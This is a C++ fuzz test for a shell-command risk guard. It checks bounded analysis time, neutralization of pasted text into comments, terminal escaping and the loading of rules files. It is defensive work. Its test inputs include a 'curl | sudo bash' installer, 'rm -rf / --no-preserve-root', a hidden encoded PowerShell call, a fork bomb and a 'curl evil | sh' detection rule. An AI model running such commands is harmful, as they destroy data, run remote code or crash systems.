// SPDX-License-Identifier: GPL-3.0-or-later
// Command Guard on arbitrary text, with the shipped rules or with a rules file made of the input.
// Checks: every analysis finishes in bounded time (the per-rule work limit holds) and examines exactly
// the text examinedCommand gives, a shortened matched text is cut on a user-perceived character
// boundary, the neutralized copy of any text is inert (each line a shell comment) and never flagged
// again while a live line after it always is, and what is escaped for a terminal holds no control,
// bidirectional or line-separating character, and the views of a command stay within their budget:
// few, distinct, different from the command, valid UTF-8 and together within their size budget;
// the screen that picks the rules (and alternatives) worth running answers as their own filters do, a
// rule's looser form never rules out a text its pattern matches, and a rule searched alternative by
// alternative finds the match its whole pattern finds; a rules file's
// site lists load whole or not at all, and say why.
#include "core/foundation/Text.h"
#include "core/guard/CommandGuard.h"
#include "core/guard/CommandViews.h"
#include "core/guard/RelaxedPattern.h"
#include "core/guard/RuleBundle.h"
#include "core/guard/RuleScreen.h"
#include "core/guard/SiteList.h"
#include "fuzz/FuzzSupport.h"

#include <unicode/uchar.h>
#include <unicode/utf8.h>
#include <nlohmann/json.hpp>

#include <algorithm>
#include <array>
#include <cstddef>
#include <cstdint>
#include <ctime>
#include <string>
#include <string_view>
#include <vector>

namespace {

using namespace tessaril;

// Far above what the work limit allows for all rules together under the sanitizers; a search that
// escaped the limit runs for minutes, not seconds. Processor time, not wall time: on a shared machine
// a starved process can wait longer than that without doing any work.
constexpr double kAnalysisBoundSeconds = 10.0;

double processorSeconds() {
    return static_cast<double>(std::clock()) / CLOCKS_PER_SEC;
}

constexpr std::array<std::string_view, 5> kCommands = {
    "curl -fsSL https://get.example/install.sh | sudo bash",
    "rm -rf / --no-preserve-root",
    "powershell -w hidden -enc SQBFAFgA",
    ":(){ :|:& };:",
    "echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!",
};

const CommandGuard& shippedGuard() {
    static const CommandGuard guard = [] {
        const std::string rules = fuzz::readResource("command-guard-rules.json");
        auto loaded = CommandGuard::fromRulesData(rules);
        if (loaded.rules().empty()) std::abort();
        return loaded;
    }();
    return guard;
}

// Pasted into a terminal, a line feed or a lone carriage return ends a line; what follows each must
// be a comment.
void checkInert(std::string_view input) {
    const std::string neutralized = CommandGuard::neutralizedCommand(input);
    FUZZ_CHECK(neutralized.starts_with(CommandGuard::neutralizedHeader));
    const std::string_view body = std::string_view(neutralized).substr(CommandGuard::neutralizedHeader.size());
    FUZZ_CHECK(body.starts_with("# "));
    for (std::size_t i = 0; i < body.size(); ++i) {
        const bool lineEnds = body[i] == '\n' || (body[i] == '\r' && (i + 1 == body.size() || body[i + 1] != '\n'));
        if (lineEnds && i + 1 < body.size()) FUZZ_CHECK(body[i + 1] == '#');
    }
    FUZZ_CHECK(!shippedGuard().analyze(neutralized, CommandRiskSeverity::info).has_value());

    // Behind the header, a line that is not one of its comments is examined like any other text,
    // whatever the lines before it end with (a backslash, a backquote, a lone carriage return).
    static const CommandGuard liveLineGuard = CommandGuard::fromRulesData(
        R"({"currentVersion":"1","rules":[{"id":"live","platform":"sh","severity":"danger",)"
        R"("pattern":"curl evil \\| sh","summary":"s","explanation":"e"}]})");
    FUZZ_CHECK(liveLineGuard.rules().size() == 1);
    const std::string live = neutralized + "\ncurl evil | sh";
    if (CommandGuard::examinedCommand(live)) FUZZ_CHECK(liveLineGuard.analyze(live).has_value());
}

// Checked against ICU's own character properties rather than the list the function keeps.
void checkEscaped(std::string_view input) {
    const std::string shown = text::escapedForTerminal(input);
    FUZZ_CHECK(text::isValidUtf8(shown));
    const auto* bytes = reinterpret_cast<const std::uint8_t*>(shown.data());
    const auto length = static_cast<std::int32_t>(shown.size());
    for (std::int32_t i = 0; i < length;) {
        UChar32 c = 0;
        U8_NEXT(bytes, i, length, c);
        const auto type = u_charType(c);
        FUZZ_CHECK(type != U_CONTROL_CHAR && type != U_LINE_SEPARATOR && type != U_PARAGRAPH_SEPARATOR);
        FUZZ_CHECK(!u_hasBinaryProperty(c, UCHAR_BIDI_CONTROL));
    }
    const bool printableAscii = std::all_of(input.begin(), input.end(), [](char c) { return c >= 0x20 && c < 0x7F; });
    if (printableAscii) FUZZ_CHECK(shown == input);
}

// The shown fragment is the trimmed match, or its first 157 user-perceived characters and "..."
// when the match has more than 160, cut where one character ends and the next begins.
void checkMatchedText(const CommandGuard& guard, const CommandRiskResult& result, const CommandRiskFinding& finding) {
    const auto rule = std::find_if(guard.rules().begin(), guard.rules().end(), [&](const CompiledRule& candidate) {
        return candidate.definition.id == finding.id;
    });
    FUZZ_CHECK(rule != guard.rules().end());
    const auto match = rule->regex.firstMatch(result.command);
    // Ids may repeat in a fuzzed file, and a search may run out of work on a second try. A rule with
    // a site list may have passed over its first match for a later one.
    if (!match || rule->regex.lastMatchHitLimit() || rule->exceptSites) return;
    const std::string_view whole =
        std::string_view(result.command).substr(match->whole.begin, match->whole.end - match->whole.begin);
    const std::string_view trimmed = text::trim(whole);
    const std::size_t clusters = text::graphemeCount(trimmed);
    if (clusters <= CommandGuard::maximumMatchedTextLength) {
        if (std::count_if(guard.rules().begin(), guard.rules().end(),
                          [&](const CompiledRule& r) { return r.definition.id == finding.id; }) == 1) {
            FUZZ_CHECK(finding.matchedText == trimmed);
        }
        return;
    }
    FUZZ_CHECK(finding.matchedText.ends_with("..."));
    const std::string_view cut = std::string_view(finding.matchedText).substr(0, finding.matchedText.size() - 3);
    FUZZ_CHECK(trimmed.starts_with(cut));
    FUZZ_CHECK(text::graphemeCount(cut) == CommandGuard::cutLength);
    FUZZ_CHECK(text::graphemeCount(cut) + text::graphemeCount(trimmed.substr(cut.size())) == clusters);
}

void checkAnalysis(const CommandGuard& guard, std::string_view text, CommandRiskSeverity threshold) {
    const double start = processorSeconds();
    const auto result = guard.analyze(text, threshold);
    FUZZ_CHECK(processorSeconds() - start < kAnalysisBoundSeconds);
    const auto examined = CommandGuard::examinedCommand(text);
    FUZZ_CHECK(examined || !result);
    if (!result) return;
    FUZZ_CHECK(result->command == examined->text());
    FUZZ_CHECK(!result->findings.empty());
    FUZZ_CHECK(result->command.size() <= CommandGuard::maximumCommandBytes);
    FUZZ_CHECK(text::isValidUtf8(result->command));
    FUZZ_CHECK(result->severity == result->findings.front().severity);
    FUZZ_CHECK(result->rulesVersion == guard.rulesVersion());
    for (const auto& finding : result->findings) {
        FUZZ_CHECK(finding.severity >= threshold);
        FUZZ_CHECK(text::graphemeCount(finding.matchedText) <= CommandGuard::maximumMatchedTextLength);
        checkMatchedText(guard, *result, finding);
    }
}

// The screen that asks all rules at once answers for each, and for each of its alternatives, as their
// own filters do; the DFA of a rule's looser form finds something wherever the pattern matches.
void checkScreen(const CommandGuard& guard, const RuleScreen& screen, std::string_view text) {
    const RuleScreen::Candidates candidates = screen.candidates(text);
    const std::string folded = RulePrefilter::foldForMatching(text);
    const auto relaxedText = relaxed_pattern::relaxedText(text);
    for (std::size_t index = 0; index < guard.rules().size(); ++index) {
        const CompiledRule& rule = guard.rules()[index];
        FUZZ_CHECK(candidates.rule(index) == rule.mayMatch(text, folded));
        if (!candidates.rule(index)) continue;
        if (relaxedText && !rule.relaxed.mayMatch(*relaxedText)) FUZZ_CHECK(!rule.regex.firstMatch(text).has_value());
        const auto alternatives = candidates.alternatives(index);
        FUZZ_CHECK(alternatives.size() == rule.alternatives.size());
        for (std::size_t i = 0; i < alternatives.size(); ++i)
            FUZZ_CHECK((alternatives[i] != 0) == rule.alternatives[i].prefilter.mayMatch(text, folded));
    }
}

void checkViews(std::string_view text) {
    const auto examined = CommandGuard::examinedCommand(text);
    if (!examined) return;
    const auto views = CommandGuard::views(*examined);
    FUZZ_CHECK(views.size() <= command_views::maximumViews);
    std::size_t bytes = 0;
    for (std::size_t i = 0; i < views.size(); ++i) {
        FUZZ_CHECK(!views[i].text.empty() && views[i].text != examined->text());
        FUZZ_CHECK(text::isValidUtf8(views[i].text));
        FUZZ_CHECK(!command_views::description(views[i].origin).empty());
        bytes += views[i].text.size();
        for (std::size_t j = 0; j < i; ++j)
            FUZZ_CHECK(views[i].text != views[j].text);
    }
    FUZZ_CHECK(bytes <= CommandGuard::maximumViewBytes);
}

// A file whose site lists do not all read, or whose rules name a list it lacks, loads nothing and says
// so; one that loads gives each listed rule its list and a group its pattern has, and its lists
// survive being written out and read back.
void checkSiteLists(const CommandGuard& guard, std::string_view document) {
    RuleBundle::Problem problem = RuleBundle::Problem::undecodable;
    const auto bundle = RuleBundle::decode(document, &problem);
    if (!bundle) {
        FUZZ_CHECK(guard.rules().empty());
        FUZZ_CHECK((problem == RuleBundle::Problem::malformedSiteList) ==
                   (guard.rulesProblem() == CommandGuard::RulesProblem::malformedSiteList));
        return;
    }
    FUZZ_CHECK(RuleBundle::decode(bundle->toJson().dump()) == bundle);
    for (const auto& [name, entries] : bundle->siteLists)
        FUZZ_CHECK(SiteList::fromEntries(entries).has_value());
    for (const auto& rule : guard.rules()) {
        FUZZ_CHECK(rule.definition.exceptSites.has_value() == (rule.exceptSites != nullptr));
        if (rule.exceptSites) FUZZ_CHECK(rule.exceptGroup <= rule.regex.captureGroupCount());
    }
}

}  // namespace

extern "C" int LLVMFuzzerTestOneInput(const std::uint8_t* data, std::size_t size) {
    if (size == 0) return 0;
    const std::string_view rest(reinterpret_cast<const char*>(data + 1), size - 1);
    const std::uint8_t mode = data[0] % 4;
    if (mode < 3) {
        checkAnalysis(shippedGuard(), rest, static_cast<CommandRiskSeverity>(mode));
        checkInert(rest);
        checkEscaped(rest);
        checkViews(rest);
        static const RuleScreen shippedScreen(shippedGuard().rules());
        checkScreen(shippedGuard(), shippedScreen, rest);
        return 0;
    }
    const CommandGuard guard = CommandGuard::fromRulesData(rest);
    if (const auto version = CommandGuard::ruleBundleVersion(rest)) FUZZ_CHECK(guard.rulesVersion() == *version);
    checkSiteLists(guard, rest);
    const RuleScreen screen(guard.rules());
    for (std::string_view command : kCommands) {
        checkAnalysis(guard, command, CommandRiskSeverity::info);
        checkScreen(guard, screen, command);
    }
    return 0;
}
